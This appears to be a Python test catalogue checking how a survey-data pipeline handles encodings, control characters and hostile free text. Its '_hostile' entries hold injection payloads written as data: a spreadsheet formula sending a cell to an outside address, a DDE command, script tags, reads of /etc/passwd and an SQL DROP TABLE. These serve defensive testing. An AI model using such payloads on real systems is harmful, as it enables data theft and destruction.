"""Encodings, invisible and control characters, and text that other programs would take as code."""

from __future__ import annotations

from catalogue.entry import ANY, Entry, cell, encoded, in_bytes, in_turn, swap
from catalogue.series import FAMILIES, NO_FAMILIES, SUPPORT, YOUNG, survey_form

MORE = "Anything else?"
FORM = "config/surveys/parents_carers.yaml"
CP1252 = survey_form("encoding: cp1252")


def _hostile(name: str, text: str) -> Entry:
    """Free text that must stay the characters it is."""
    return Entry(
        f"free text: {name}", "escape", {FAMILIES: cell(3, MORE, text)},
        figures={"more": 3}, holds=text,
    )  # fmt: skip


def _mojibake(content: bytes) -> bytes:
    return content.decode("cp1252").encode()


ENTRIES = [
    Entry("UTF-8 with its mark", "accept", {FAMILIES: encoded("utf-8", b"\xef\xbb\xbf")}),
    Entry("line ends of Windows", "accept", {FAMILIES: in_bytes(
        lambda content: content.replace(b"\n", b"\r\n"))}),
    Entry("UTF-16 little end first, with its mark", "normalise",
          {FAMILIES: encoded("utf-16-le", b"\xff\xfe")}, "TAB-012", ANY, ANY, ""),
    Entry("UTF-16 big end first, with its mark", "normalise",
          {FAMILIES: encoded("utf-16-be", b"\xfe\xff")}, "TAB-012", ANY, ANY, ""),
    Entry("UTF-16 little end first, without a mark", "refuse", {FAMILIES: encoded("utf-16-le")},
          "TAB-002", ANY, ANY, "UTF-8", NO_FAMILIES),
    Entry("UTF-16 big end first, without a mark", "refuse", {FAMILIES: encoded("utf-16-be")},
          "TAB-002", ANY, ANY, "UTF-8", NO_FAMILIES),
    Entry("UTF-16 cut in the middle of a character", "refuse",
          {FAMILIES: in_turn(encoded("utf-16-le", b"\xff\xfe"), in_bytes(lambda b: b[:-1]))},
          "TAB-002", ANY, ANY, "", NO_FAMILIES),
    Entry("cp1252 that nobody declared", "refuse", {FAMILIES: encoded("cp1252")},
          "TAB-002", "2", ANY, "UTF-8", NO_FAMILIES),
    Entry("cp1252 as declared", "normalise",
          {FORM: CP1252, FAMILIES: encoded("cp1252")},
          "TAB-012", ANY, ANY, "", holds="Merci à tous – café"),
    Entry("UTF-8 declared as cp1252", "refuse", {FORM: CP1252, FAMILIES: swap(
          "P01", "P01")}, "TAB-002", ANY, ANY, "UTF-8", NO_FAMILIES),
    Entry("UTF-8 with its mark declared as cp1252", "refuse",
          {FORM: CP1252, FAMILIES: in_bytes(
              lambda b: b"\xef\xbb\xbf" + b.replace("à".encode(), b"a").replace(
                  "–".encode(), b"-").replace("é".encode(), b"e"))},
          "TAB-002", ANY, ANY, "UTF-8", NO_FAMILIES),
    Entry("a byte that cp1252 leaves undefined", "refuse",
          {FORM: CP1252, FAMILIES: in_turn(encoded("cp1252"), in_bytes(
              lambda b: b.replace(b"caf\xe9", b"caf\x81")))},
          "TAB-002", "2", ANY, "", NO_FAMILIES),
    Entry("an encoding that cannot be declared", "refuse",
          {FAMILIES: in_bytes(lambda b: b.decode().replace("–", "-").encode("cp437"))},
          "TAB-002", "2", ANY, "UTF-8", NO_FAMILIES),
    # The characters are valid, so only a person can see it: an unlisted answer is an error, and
    # free text stays as it came.
    Entry("free text that was decoded wrongly before", "escape",
          {FAMILIES: in_bytes(lambda b: b.replace("Merci à tous – café".encode(),
                                                  _mojibake("café".encode())))},
          holds="cafÃ©"),
    Entry("a header that was decoded wrongly before", "refuse", {FAMILIES: swap(
          SUPPORT, "How well were you supportedâ€™?")}, "TAB-007", "1", SUPPORT, "", NO_FAMILIES),
    Entry("a NUL character", "refuse", {FAMILIES: swap("Very well", "Very\0well")},
          "TAB-002", "2", ANY, "", NO_FAMILIES),
    Entry("a bell character", "refuse", {FAMILIES: swap("Not well", "Not\awell")},
          "TAB-002", "5", ANY, "", NO_FAMILIES),
    Entry("an escape character in free text", "refuse", {FAMILIES: swap("Merci", "\x1b[31mMerci")},
          "TAB-002", "2", ANY, "", NO_FAMILIES),
    Entry("a control character of the upper range", "refuse", {FAMILIES: swap("Merci", "\x92s")},
          "TAB-002", "2", ANY, "", NO_FAMILIES),
    Entry("a picture with the name of a table", "refuse",
          {FAMILIES: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256))},
          "TAB-002", ANY, ANY, "", NO_FAMILIES),
    Entry("a workbook with the name of a CSV file", "refuse",
          {FAMILIES: b"PK\x03\x04\x14\0\x06\0\x08\0" + bytes(range(128, 256)) * 4},
          ANY, ANY, ANY, "", NO_FAMILIES),
    Entry("non-breaking spaces around an answer", "normalise",
          {FAMILIES: swap("Very well", "\xa0Very well\xa0")}, "TAB-010", ANY, ANY, ""),
    Entry("a non-breaking space within an answer", "normalise",
          {FAMILIES: swap("Very well", "Very\xa0well")}, "TAB-010", ANY, ANY, ""),
    Entry("spaces after an answer", "normalise",
          {FAMILIES: swap("Fairly well", "Fairly well  ")}, "TAB-010", ANY, ANY, ""),
    Entry("two spaces within an answer", "normalise",
          {FAMILIES: swap("Not well", "Not  well")}, "TAB-010", ANY, ANY, ""),
    Entry("a zero-width space in an answer", "normalise",
          {FAMILIES: swap("Very well", "Very\u200b well")}, "TAB-022", ANY, ANY, ""),
    Entry("a zero-width space in an area code", "normalise",
          {FAMILIES: swap("E06000059", "E060\u200b00059")}, "TAB-022", ANY, ANY, ""),
    Entry("a mark of direction in an id", "normalise",
          {FAMILIES: swap("P05", "\u200eP05")}, "TAB-022", ANY, ANY, ""),
    Entry("a soft hyphen in an answer", "normalise",
          {FAMILIES: swap("Very well", "Very w\u00adell")}, "TAB-022", ANY, ANY, ""),
    Entry("a second byte-order mark within the file", "normalise",
          {FAMILIES: swap("P09", "\ufeffP09")}, "TAB-022", ANY, ANY, ""),
    Entry("non-breaking spaces in a header", "normalise",
          {FAMILIES: swap(SUPPORT, "How\xa0well were you supported? ")}, "TAB-010", ANY, ANY, ""),
    Entry("a letter of another alphabet in an area code", "set aside",
          {YOUNG: swap("Y03,E", "Y03,Е")}, "SVY-005", "4", "Area", "",
          {"young_people": 4, "future: Worried": 1, "in Bristol": 9}),
    Entry("an answer in decomposed letters", "escape",
          {FAMILIES: cell(3, MORE, "cafe\u0301")}, figures={"more": 3}, holds="cafe\u0301"),
    _hostile("a spreadsheet's formula", '=HYPERLINK("http://192.0.2.9/?"&A1,"more")'),
    _hostile("a formula after a plus sign", "+cmd|' /C calc'!A0"),
    _hostile("a formula after an at sign", "@SUM(1+1)"),
    _hostile("a script", "<script>alert(1)</script>"),
    _hostile("a picture that runs a script", '<img src=x onerror="alert(1)">'),
    _hostile("a shortcode", "{{< meta facts.areas >}}"),
    _hostile("an include", "{{< include /etc/passwd >}}"),
    _hostile("Typst code", '#read("/etc/passwd")'),
    _hostile("a raw block", "```{=typst}\n#panic()\n```"),
    _hostile("a template's expression", "{{ 7 * 7 }}${7*7}{% raw %}"),
    _hostile("YAML's document marks", "---\ntitle: other\n---"),
    _hostile("SQL", "'; DROP TABLE responses; --"),
    _hostile("an emoji beyond 16 bits", "Thank you \U0001f600"),
    _hostile("writing from right to left", "תודה רבה"),
    _hostile("a quoted comma and quotation marks", 'They said "no, later"'),
    _hostile("the word None", "None"),
    _hostile("the word NaN", "NaN"),
    _hostile("a number", "007"),
    _hostile("a very long answer", "long " * 6500 + "end"),
    Entry("a script in an unknown answer", "set aside",
          {FAMILIES: cell(10, SUPPORT, "<script>alert(1)</script>")}, "SVY-008", "10", SUPPORT,
          "Not well", {"support: Not well": 2}),
    Entry("a shortcode in an unknown answer", "set aside",
          {FAMILIES: cell(10, SUPPORT, "{{< meta x >}}")}, "SVY-008", "10", SUPPORT,
          "Not well", {"support: Not well": 2}),
]  # fmt: skip
